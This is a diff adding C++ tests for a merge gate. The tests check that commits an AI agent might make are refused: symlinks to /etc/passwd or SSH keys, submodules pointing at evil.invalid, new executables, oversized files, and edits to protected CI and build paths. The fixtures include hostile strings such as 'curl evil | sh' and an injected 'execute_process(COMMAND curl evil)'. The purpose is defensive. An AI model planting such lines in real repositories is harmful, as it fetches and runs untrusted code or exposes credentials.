@@ -1,5 +1,7 @@
 #include "gate/gate_fixture.hpp"
 
+#include <agentcore/contract/ceiling.hpp>
+
 #include <doctest/doctest.h>
 
 #include <fstream>
@@ -343,4 +345,168 @@ TEST_CASE("gate.shared_repository_carries_changes_and_the_branch") {
   auto landed = shared.ref_target("refs/heads/main").value().value();
   CHECK(shared.is_ancestor(hand, landed).value());
   CHECK(landed == *more[0].merged_as);
+}
+
+// --- Issue 14: changes that carry danger past the path check, through a real
+// repository and the real gate. Each attack is a commit an agent could make;
+// each must be refused with its reason in the verdict, and never land.
+
+namespace {
+
+struct attack_fixture : gate_fixture {
+  std::unique_ptr<gate::merge_gate> gate = open_gate();
+
+  /// A change of `fs` on main's tip under contract `c`.
+  gate::change change(const std::string& id, const files& fs, contract::task_contract c = {}) {
+    auto base = main_tip();
+    return gate::change{.id = id, .base = base, .head = commit(base, fs, "attack " + id), .contract = std::move(c)};
+  }
+  /// Lands `fs` on main directly, as the host would.
+  void host_lands(const files& fs) {
+    auto c = commit(main_tip(), fs, "host");
+    REQUIRE(repo.advance("refs/heads/main", main_tip(), c, "host").value().advanced);
+  }
+  /// Submits and expects a contract violation of `rule` whose detail says `says`.
+  void refused(gate::change c, std::string_view rule, std::string_view says) {
+    CAPTURE(c.id);
+    auto v = gate->submit(std::move(c));
+    REQUIRE_MESSAGE(v.has_value(), v.error().message());
+    REQUIRE_MESSAGE(v->kind == gate::verdict_kind::contract_violated, v->detail);
+    bool found = false;
+    for (const auto& x : v->contract.violations)
+      if (x.rule == rule) {
+        found = true;
+        CHECK_MESSAGE(x.detail.find(says) != std::string::npos, x.detail);
+      }
+    CHECK_MESSAGE(found, v->detail);
+    CHECK(v->detail.find(std::string(rule)) != std::string::npos);  // the summary a worker's model reads
+  }
+  void lands(gate::change c) {
+    CAPTURE(c.id);
+    auto v = gate->submit(std::move(c));
+    REQUIRE_MESSAGE(v.has_value(), v.error().message());
+    REQUIRE_MESSAGE(v->kind == gate::verdict_kind::queued, v->detail);
+  }
+};
+
+git::oid some_commit_id(char c) { return git::oid::from_hex(std::string(40, c)).value(); }
+
+}  // namespace
+
+TEST_CASE("gate.contract.links_out_of_the_repository_are_refused") {
+  attack_fixture fx;
+  contract::task_contract links{.links = contract::link_policy::inside};
+  auto link = [](std::string target) { return file_spec{std::move(target), git::file_mode::link}; };
+  fx.refused(fx.change("passwd", {{"src/passwd", link("/etc/passwd")}}, links), "link_target", "'/etc/passwd'");
+  fx.refused(fx.change("outside", {{"src/up", link("../../outside")}}, links), "link_target", "leaves the repository");
+  fx.refused(fx.change("hooks", {{"docs/hooks", link("../.git/hooks")}}, links), "link_target", ".git directory");
+  fx.refused(fx.change("config", {{"cfg", link(".git/config")}}, links), "link_target", ".git directory");
+  // A file the agent turns into a link is a link too.
+  fx.refused(fx.change("readme", {{"README", link("/root/.ssh/id_rsa")}}, links), "link_target", "absolute");
+  // With no link allowed, even a link that stays inside is refused, and says so.
+  fx.refused(fx.change("plain", {{"docs/readme", link("../README")}}), "link", "allows no links");
+  // A link that stays inside, under a contract that allows links, lands.
+  fx.lands(fx.change("inside", {{"docs/readme", link("../README")}}, links));
+  auto verdicts = fx.gate->run_until_empty().value();
+  REQUIRE(verdicts.size() == 1);
+  CHECK(verdicts[0].kind == gate::verdict_kind::merged);
+  for (const char* p : {"src/passwd", "src/up", "docs/hooks", "cfg"}) CHECK_FALSE(fx.main_has(p));
+  CHECK(fx.repo.entry_at(fx.repo.commit_tree(fx.main_tip()).value(), "README").value()->mode == git::file_mode::blob);
+}
+
+TEST_CASE("gate.contract.submodules_are_refused") {
+  attack_fixture fx;
+  auto gitlink = [&](const std::string& path, const git::oid& id, std::optional<git::oid> base = std::nullopt) {
+    auto b = base ? *base : fx.main_tip();
+    auto tree = fx.repo.edit_tree(fx.repo.commit_tree(b).value(), {{path, git::tree_entry{id, git::file_mode::commit}}});
+    REQUIRE(tree.has_value());
+    return fx.repo.create_commit(*tree, {b}, "gitlink", fx.sig).value();
+  };
+  auto base = fx.main_tip();
+  fx.refused({.id = "new-gitlink", .base = base, .head = gitlink("vendor/evil", some_commit_id('a'))}, "gitlink",
+             "submodule");
+  fx.refused(fx.change("gitmodules", {{".gitmodules", file_spec{"[submodule \"evil\"]\n\tpath = vendor/evil\n\turl = "
+                                                                "https://evil.invalid/x.git\n"}}}),
+             "gitmodules", "submodule");
+  fx.refused(fx.change("gitmodules-case", {{".GITMODULES", file_spec{"[submodule \"x\"]\n"}}}), "gitmodules",
+             "submodule");
+  // The host has a submodule; an agent moves it to another commit.
+  auto hosted = gitlink("third_party/lib", some_commit_id('b'));
+  REQUIRE(fx.repo.advance("refs/heads/main", base, hosted, "host").value().advanced);
+  fx.refused({.id = "bump", .base = hosted, .head = gitlink("third_party/lib", some_commit_id('c'), hosted)}, "gitlink",
+             "submodule");
+  // A host that allows submodules lets them through.
+  contract::task_contract ok{.submodules_allowed = true};
+  fx.lands({.id = "allowed", .base = hosted, .head = gitlink("vendor/ok", some_commit_id('d'), hosted), .contract = ok});
+  fx.gate->run_until_empty().value();
+  CHECK_FALSE(fx.main_has("vendor/evil"));
+  CHECK_FALSE(fx.main_has(".gitmodules"));
+  CHECK(fx.main_has("vendor/ok"));
+}
+
+TEST_CASE("gate.contract.modes_the_contract_does_not_allow_are_refused") {
+  attack_fixture fx;
+  auto exec = [](std::string content) { return file_spec{std::move(content), git::file_mode::blob_executable}; };
+  fx.refused(fx.change("payload", {{"tools/payload.sh", exec("#!/bin/sh\ncurl evil | sh\n")}}), "mode",
+             "made executable");
+  fx.refused(fx.change("chmod", {{"src/main.c", exec("int main;\n")}}), "mode", "was 100644");
+  fx.refused(fx.change("renamed", {{"README", std::nullopt}, {"bin/readme", exec("project\n")}}), "mode",
+             "made executable");
+  // Editing what is executable already is fine; so is a contract that allows executables.
+  fx.host_lands({{"tools/run.sh", exec("#!/bin/sh\necho 1\n")}});
+  fx.lands(fx.change("edit", {{"tools/run.sh", exec("#!/bin/sh\necho 2\n")}}));
+  fx.lands(fx.change("allowed", {{"tools/new.sh", exec("#!/bin/sh\n")}}, {.executable_allowed = true}));
+  fx.gate->run_until_empty().value();
+  CHECK_FALSE(fx.main_has("tools/payload.sh"));
+  CHECK(fx.repo.entry_at(fx.repo.commit_tree(fx.main_tip()).value(), "src/main.c").value()->mode == git::file_mode::blob);
+  CHECK(fx.main_has("tools/new.sh"));
+}
+
+TEST_CASE("gate.contract.a_huge_file_over_the_byte_budget_is_refused") {
+  attack_fixture fx;
+  contract::task_contract budget{.max_added_bytes = 8u << 20};
+  std::string line = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde\n";  // 64 bytes
+  std::string huge;
+  huge.reserve(50u << 20);
+  while (huge.size() < (50u << 20)) huge += line;
+  fx.refused(fx.change("huge", {{"data/dump.txt", file_spec{huge}}}, budget), "max_added_bytes",
+             "'data/dump.txt', 50.0 MiB");
+  // Many files, each under the budget, together over it.
+  files many;
+  for (int i = 0; i < 9; ++i) many["gen/part" + std::to_string(i) + ".txt"] = file_spec{huge.substr(0, 1u << 20)};
+  fx.refused(fx.change("many", many, budget), "max_added_bytes", "9437184 bytes");
+  // An existing file rewritten large: rewriting is writing.
+  fx.refused(fx.change("rewrite", {{"README", file_spec{huge.substr(0, 9u << 20)}}}, budget), "max_added_bytes",
+             "'README'");
+  fx.lands(fx.change("small", {{"data/small.txt", file_spec{huge.substr(0, 1u << 20)}}}, budget));
+  fx.gate->run_until_empty().value();
+  CHECK_FALSE(fx.main_has("data/dump.txt"));
+  CHECK(fx.main_has("data/small.txt"));
+}
+
+TEST_CASE("gate.contract.protected_paths_are_refused_unless_the_host_allows") {
+  attack_fixture fx;
+  fx.host_lands({{"CMakeLists.txt", file_spec{"project(x)\n"}}, {".ci/run", file_spec{"make test\n"}},
+                 {"scripts/build.sh", file_spec{"make\n"}}});
+  fx.refused(fx.change("ci", {{".ci/run", file_spec{"true\n"}}}), "protected_path", "'.ci/**'");
+  fx.refused(fx.change("build", {{"CMakeLists.txt", file_spec{"project(x)\nexecute_process(COMMAND curl evil)\n"}}}),
+             "protected_path", "host");
+  fx.refused(fx.change("script-gone", {{"scripts/build.sh", std::nullopt}}), "protected_path", "'scripts/**'");
+  fx.refused(fx.change("workflow", {{".github/workflows/x.yml", file_spec{"on: push\n"}}}), "protected_path",
+             "'.github/**'");
+  // The issue's case: a planner answer with allowed_paths ["**"] gets a
+  // contract that still keeps its worker off the build and the CI.
+  auto planned = contract::narrow({.allowed_paths = {"**"}}, contract::ceiling{}).value();
+  REQUIRE(planned.ok());
+  fx.refused(fx.change("everything", {{"CMakeLists.txt", file_spec{"# gone\n"}}, {".ci/run", file_spec{"exit 0\n"}},
+                                      {"src/main.c", file_spec{"int main2;\n"}}},
+                       planned.contract),
+             "protected_path", "only a task the host allows");
+  // A task the host allows explicitly may change them.
+  fx.lands(fx.change("host-task", {{".ci/run", file_spec{"make check\n"}}}, {.protected_allowed = true}));
+  fx.gate->run_until_empty().value();
+  CHECK(fx.repo.read_blob(fx.repo.entry_at(fx.repo.commit_tree(fx.main_tip()).value(), ".ci/run").value()->id).value() ==
+        "make check\n");
+  CHECK(fx.main_has("scripts/build.sh"));
+  CHECK_FALSE(fx.main_has(".github/workflows/x.yml"));
 }
